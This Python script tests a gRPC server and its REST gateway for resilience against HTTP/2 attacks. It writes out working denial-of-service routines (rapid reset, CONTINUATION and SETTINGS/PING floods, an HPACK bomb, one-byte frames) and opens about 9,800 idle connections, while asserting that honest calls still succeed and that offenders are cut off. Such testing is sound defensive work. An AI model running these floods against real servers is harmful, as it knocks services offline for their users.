"""Attacks on HTTP/2 itself and crowds of idle connections, at the gRPC port and at the gateway's, with an honest client
beside.

Usage: attacks.py GRPC_ADDRESS REST_ADDRESS PID TICKET. No honest call may fail. Attacks on the life of streams must end
their connection; floods need only be borne. How long the honest calls took is told and not judged: beside other tests it
says more of the machine than of the server (`cargo xtask bench` compares within one run).
"""

import http.client
import resource
import selectors
import sys
import threading
import time
from pathlib import Path

import grpc
from http2 import Raw, connect, grpc_headers, message
from hyperframe.frame import (
    ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame,
)

GET_TICKET = "/boxoffice.ticket.v1.TicketService/GetTicket"
ALONE_SECS = 1
ATTACK_SECS = 1.5
# Whoever breaks a bound is to be gone a second later. The first of some attackers must be, counted from where it surely
# has broken it; the others may wait for a busy machine. What is late by itself is so in every try.
ENDED_SECS = 1
TRIES = 3
ENDED_WITHIN_SECS = 10
# How many streams of a connection a server resets for what its client does wrong.
RESETS_MAX = 1024
# As many as a listener holds, less some for the honest.
ROOM = 200
CONNECTIONS = 10_000 - ROOM
CONNECTION_BYTES_MAX = 20 * 1024
# After so long an HTTP/1 client that asks nothing is left.
LEFT_SECS = 10
LET_GO_SECS = 30
# Of a processor, beside what the platform takes without them. What spins does so in each of some windows; what has had
# something to do rests in one of them, however busy the machine is, for only the server's own time is counted.
SPINNING = 0.05
WINDOW_SECS = 2
WINDOWS = 10
PING, PONG = b"\0\0\x08\x06\0\0\0\0\0", b"\0\0\x08\x06\x01\0\0\0\0"


class Target:
    """A port, and how an honest and a dishonest client ask it for something."""

    def __init__(self, name, address, headers, body, ask):
        self.name, self.address, self.headers, self.body, self.ask = name, address, headers, body, ask


def targets(grpc_address, rest_address, ticket):
    asked = b"\x0a\x24" + ticket.encode()

    def over_grpc():
        channel = grpc.insecure_channel(grpc_address)
        call = channel.unary_unary(GET_TICKET)
        return lambda: call(asked, timeout=10)

    def over_rest():
        connection = http.client.HTTPConnection(rest_address, timeout=10)

        def ask():
            connection.request("GET", f"/v1/tickets/{ticket}")
            answer = connection.getresponse()
            answer.read()
            assert answer.status == 200, answer.status
        return ask

    path = f"/v1/tickets/{ticket}"
    rest = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "boxoffice")]
    posted = [(":method", "POST"), (":scheme", "http"), (":path", "/v1/bookings"), (":authority", "boxoffice"),
              ("content-type", "application/json")]
    yield Target("gRPC", grpc_address, (grpc_headers(GET_TICKET),) * 2, message(asked), over_grpc)
    yield Target("REST", rest_address, (rest, posted), b'{"quantity": 1}', over_rest)


class Honest(threading.Thread):
    """Calls one after the other until it is told to stop."""

    def __init__(self, target):
        super().__init__(daemon=True)
        self.ask, self.over, self.took, self.failed = target.ask(), threading.Event(), [], []

    def run(self):
        while not self.over.is_set():
            began = time.perf_counter()
            try:
                self.ask()
            except Exception as error:  # Whatever it is, an honest call has failed.
                self.failed.append(repr(error))
            self.took.append(time.perf_counter() - began)

    def stop(self):
        self.over.set()
        self.join()
        return sorted(self.took)[int(len(self.took) * 0.99)]


def until(secs):
    """Counts odd stream numbers for so long."""
    give_up = time.monotonic() + secs
    stream = 1
    while time.monotonic() < give_up:
        yield stream
        stream += 2


def rapid_reset(raw, target):
    for stream in until(ENDED_WITHIN_SECS):
        if not raw.send(raw.headers(stream, target.headers[0], "END_HEADERS", "END_STREAM"), RstStreamFrame(stream, 8)):
            return


def made_you_reset(raw, target):
    """The server resets the streams itself, for windows beyond the largest there is; it does so a thousand times."""
    for stream in until(ENDED_WITHIN_SECS):
        if stream == 2 * RESETS_MAX + 1:
            raw.broken = time.monotonic()
        wrong = WindowUpdateFrame(stream, 2**31 - 1)
        if not raw.send(raw.headers(stream, target.headers[1], "END_HEADERS"), wrong):
            return


def continuation_flood(raw, target):
    begin = HeadersFrame(1, data=raw.encoder.encode(target.headers[0]))
    raw.send(begin)
    for _ in until(ENDED_WITHIN_SECS):
        more = raw.encoder.encode([(f"x-{n}", "m" * 100) for n in range(20)])
        if not raw.send(ContinuationFrame(1, data=more)):
            return


def empty_continuations(raw, target):
    raw.send(HeadersFrame(1, data=raw.encoder.encode(target.headers[0])))
    for _ in until(ENDED_WITHIN_SECS):
        if not raw.send(*[ContinuationFrame(1, data=b"")] * 50):
            return


def settings_flood(raw, _):
    for _ in until(ATTACK_SECS):
        if not raw.send(*[SettingsFrame(0, settings={4: 65535})] * 50):
            return


def ping_flood(raw, _):
    for _ in until(ATTACK_SECS):
        if not raw.send(*[PingFrame(0, b"attacked")] * 50):
            return


def hpack_bomb(raw, target):
    """One long header in the table, then named by a byte each, thousands of times."""
    block = raw.encoder.encode([*target.headers[0], ("x-bomb", "b" * 3900)])
    first = HeadersFrame(1, data=block, flags=["END_HEADERS", "END_STREAM"])
    raw.send(first)
    for stream in until(ATTACK_SECS):
        # 62 is where the table of one's own begins, and its newest entry.
        block = raw.encoder.encode(target.headers[0]) + b"\xbe" * 12_000
        if not raw.send(HeadersFrame(stream + 2, data=block, flags=["END_HEADERS", "END_STREAM"])):
            return


def one_byte_frames(raw, target):
    for stream in until(ATTACK_SECS):
        raw.send(raw.headers(stream, target.headers[1], "END_HEADERS"))
        frames = [DataFrame(stream, bytes([byte])) for byte in target.body]
        frames[-1].flags.add("END_STREAM")
        empty = [DataFrame(stream, b"")] * 20
        if not raw.send(*empty, *frames):
            return


# Whether its connection must be ended.
ATTACKS = ((rapid_reset, True), (made_you_reset, True), (continuation_flood, True), (empty_continuations, True),
           (settings_flood, False), (ping_flood, False), (hpack_bomb, False), (one_byte_frames, False))


def attack(target, how, must_end, endings):
    patience = ENDED_WITHIN_SECS + 1 if must_end else ATTACK_SECS + 0.5
    with Raw(target.address) as raw:
        raw.tcp.settimeout(ENDED_WITHIN_SECS)
        # Most break their bound at once.
        raw.broken = time.monotonic()

        def read():
            ended = raw.ended_within(patience)
            endings.append((ended, time.monotonic() - raw.broken))
        reading = threading.Thread(target=read, daemon=True)
        reading.start()
        how(raw, target)
        reading.join()


def measured(target, how, must_end):
    """The honest client's 99th percentile beside so many attackers, and how these ended."""
    honest, endings = Honest(target), []
    honest.start()
    attackers = [threading.Thread(target=attack, args=(target, how, must_end, endings), daemon=True) for _ in range(3)]
    for attacker in attackers:
        attacker.start()
    for attacker in attackers:
        attacker.join()
    p99 = honest.stop()
    assert not honest.failed, f"{target.name}, {how.__name__}: honest calls failed: {honest.failed[:3]}"
    assert honest.took and len(endings) == len(attackers), f"{how.__name__}: {endings}"
    return p99, endings


def besiege(target):
    honest = Honest(target)
    honest.start()
    time.sleep(ALONE_SECS)
    alone = honest.stop()
    assert not honest.failed, honest.failed[:3]
    for how, must_end in ATTACKS:
        for _ in range(TRIES):
            beside, endings = measured(target, how, must_end)
            ended = ", ".join(f"{ended} after {took:.2f} s" for ended, took in sorted(endings))
            print(f"{target.name}: {how.__name__}: p99 x {beside / alone:.1f}, attackers: {ended}", flush=True)
            assert not must_end or all(ended != "open" for ended, _ in endings), "some are served on"
            soonest = min(took for _, took in endings)
            if not must_end or soonest <= ENDED_SECS:
                break
        assert not must_end or soonest <= ENDED_SECS, f"{target.name}, {how.__name__}: {endings}"


def resident(pid):
    return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * 4096


def worked(pid):
    """Seconds of processor time."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / 100


def files(pid):
    return sum(1 for _ in Path(f"/proc/{pid}/fd").iterdir())


def makes_room(pid):
    """Both sides must be able to hold all connections: fewer would prove less than it looks."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    limits = Path(f"/proc/{pid}/limits").read_text().splitlines()
    theirs = int(next(line for line in limits if line.startswith("Max open files")).split()[3])
    needed = CONNECTIONS + 2 * ROOM
    assert min(most, theirs) >= needed, f"{needed} files are needed; here are {most}, there {theirs}: see ulimit -Hn"


def busy(pid, enough=0):
    """The smallest share of a processor that it takes in one of some windows, which end where it is small enough."""
    least = float("inf")
    for _ in range(WINDOWS):
        began = worked(pid)
        time.sleep(WINDOW_SECS)
        least = min(least, (worked(pid) - began) / WINDOW_SECS)
        if least < enough:
            break
    return least


class Alive(threading.Thread):
    """Answers the pings of idle connections, as clients of HTTP/2 must: else they are left."""

    def __init__(self):
        super().__init__(daemon=True)
        self.over, self.all = threading.Event(), selectors.DefaultSelector()

    def watch(self, connection):
        self.all.register(connection, selectors.EVENT_READ)
        return connection

    def run(self):
        while not self.over.is_set():
            for key, _ in self.all.select(0.1):
                said = key.fileobj.recv(4096)
                at = said.find(PING)
                if at >= 0:
                    key.fileobj.sendall(PONG + said[at + 9:at + 17])
                if not said:
                    self.all.unregister(key.fileobj)

    def stop(self):
        self.over.set()
        self.join()
        self.all.close()


def let_go(pid, at_first, name):
    """Waits until the server has noticed that a crowd has left."""
    give_up = time.monotonic() + LET_GO_SECS
    while files(pid) > at_first + ROOM // 2:
        assert time.monotonic() < give_up, f"{name}: {files(pid) - at_first} are still held"
        time.sleep(0.1)


def preface_alone(address):
    return Raw(address).tcp


def after_a_request(address):
    """A connection of HTTP/1 that has been answered once, about a path that there is not."""
    tcp = connect(address)
    tcp.sendall(b"GET /nothing HTTP/1.1\r\nHost: boxoffice\r\n\r\n")
    assert tcp.recv(4096).startswith(b"HTTP/1.1 404"), "answered"
    return tcp


def idle(name, target, opened, most_secs, pid, before, alone):
    """Many connections that do nothing more, opened in so many seconds at most."""
    at_first, alive, connections = files(pid), Alive(), []
    alive.start()
    began, took = time.monotonic(), 0
    while len(connections) < CONNECTIONS and took < most_secs:
        connections.append(alive.watch(opened(target.address)))
        took = time.monotonic() - began
    held = files(pid) - at_first
    each = (resident(pid) - before) / max(held, 1)
    honest = target.ask()
    honest()
    share = busy(pid, alone + SPINNING)
    target.ask()()
    print(f"{name}: {held} idle connections, opened in {took:.1f} s: {each / 1024:.1f} KiB each, {share:.1%} of a processor",
          flush=True)
    alive.stop()
    for connection in connections:
        connection.close()
    let_go(pid, at_first, name)
    assert held >= len(connections) - ROOM // 2 and held >= ROOM, f"{name}: only {held} of {len(connections)} were held"
    assert each <= CONNECTION_BYTES_MAX, f"{name}: {each} bytes for each"
    assert share < alone + SPINNING, f"{name}: it spins"
    target.ask()()


def main(grpc_address, rest_address, pid, ticket):
    over_grpc, over_rest = targets(grpc_address, rest_address, ticket)
    makes_room(pid)
    alone = busy(pid)
    print(f"with no connections: {alone:.1%} of a processor", flush=True)
    # What the crowds before have taken counts against the next one, too.
    before = resident(pid)
    # A client of HTTP/1 that asks nothing more is left after 10 s, so there are as many as come until then.
    idle("REST over HTTP/1", over_rest, after_a_request, LEFT_SECS - 1, pid, before, alone)
    idle("gRPC", over_grpc, preface_alone, float("inf"), pid, before, alone)
    idle("REST over HTTP/2", over_rest, preface_alone, float("inf"), pid, before, alone)
    for target in (over_grpc, over_rest):
        besiege(target)
    print("all borne")


if __name__ == "__main__":
    main(*sys.argv[1:])
